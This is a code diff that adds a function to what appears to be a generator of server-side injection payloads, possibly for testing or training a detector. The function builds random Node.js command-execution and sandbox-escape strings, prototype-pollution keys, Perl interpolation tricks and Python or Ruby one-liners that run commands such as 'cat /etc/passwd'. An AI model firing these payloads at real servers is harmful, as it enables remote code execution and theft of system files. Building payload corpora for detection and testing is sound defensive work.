@@ -129,9 +129,51 @@ def _other_templates(rng: random.Random) -> str:
     ))
 
 
+def _server_code(rng: random.Random) -> str:
+    """Code for a server-side interpreter reached without a template: Node.js (``require``,
+    ``process``, constructor chains, prototype pollution), Perl ``@{[ ]}`` interpolation, Ruby and
+    Python one-liners."""
+    cmd = pick(rng, ("id", "whoami", "ls", "uname -a", "cat /etc/passwd"))
+    q = pick(rng, ("'", '"'))
+    mod = pick(rng, ("child_process", "fs", "os", "net", "vm"))
+    wrap = pick(rng, ("{}", "#{{{}}}", "${{{}}}", "{};", "({})", "[{}]"))
+    node = pick(rng, (
+        f"require({q}{mod}{q}).{pick(rng, ('exec', 'execSync', 'spawn', 'readFileSync', 'writeFile'))}({q}{cmd}{q})",
+        f"require.main.constructor._load({q}{mod}{q})",
+        f"process.binding({q}spawn_sync{q}).spawn({rand_ident(rng)})",
+        f"process.mainModule.require({q}{mod}{q})",
+        f"process[{q}env{q}]",
+        f"process.env",
+        f"global.process.exit()",
+        f"this.constructor.constructor({q}return process{q})()",
+        f"console[{q}log{q}]({rng.randint(2, 99)}*{rng.randint(2, 99)})",
+        f"console.log.call(this,{rng.randint(1, 9)})",
+        f"module.exports={{}}",
+        f"new Function({q}return this.process{q})()",
+        f"Buffer.from({q}{rand_ident(rng)}{q},{q}base64{q}).toString()",
+        f"eval(require({q}{mod}{q}))",
+    ))
+    roll = rng.random()
+    if roll < 0.55:
+        return wrap.format(node)
+    if roll < 0.72:
+        key = pick(rng, ("__proto__", "constructor[prototype]", "constructor.prototype", "__proto__.__proto__"))
+        prop = pick(rng, ("isAdmin", "shell", "outputFunctionName", "polluted", "env", "NODE_OPTIONS", rand_ident(rng)))
+        sep = pick(rng, ("[{}]", ".{}"))
+        return f"{key}{sep.format(prop)}{pick(rng, ('', '=true', '=1', '=' + q + cmd + q))}"
+    if roll < 0.88:
+        perl = pick(rng, (f"system {q}{cmd}{q}", f"`{cmd}`", f"exec({q}{cmd}{q})", "rand 100", f"open(F,{q}/etc/passwd{q})",
+                          "sort { $a <=> $b } (3,2,1)", f"qx({cmd})", "CORE::time()"))
+        return pick(rng, (f"@{{[{perl}]}}", f"@{{[ {perl} ]}}", f"${{\\ {perl}}}"))
+    return pick(rng, (f"__import__({q}os{q}).system({q}{cmd}{q})", f"__import__({q}os{q}).popen({q}{cmd}{q}).read()",
+                      f"Kernel.exec({q}{cmd}{q})", f"IO.popen({q}{cmd}{q}).read", f"%x({cmd})",
+                      f"getattr(__import__({q}os{q}),{q}system{q})({q}{cmd}{q})"))
+
+
 _SSTI: tuple[tuple[str, Family, float], ...] = (
     ("jinja", _jinja, 2.0),
     ("other_engines", _other_templates, 3.0),
+    ("server_code", _server_code, 1.2),
 )
 
 
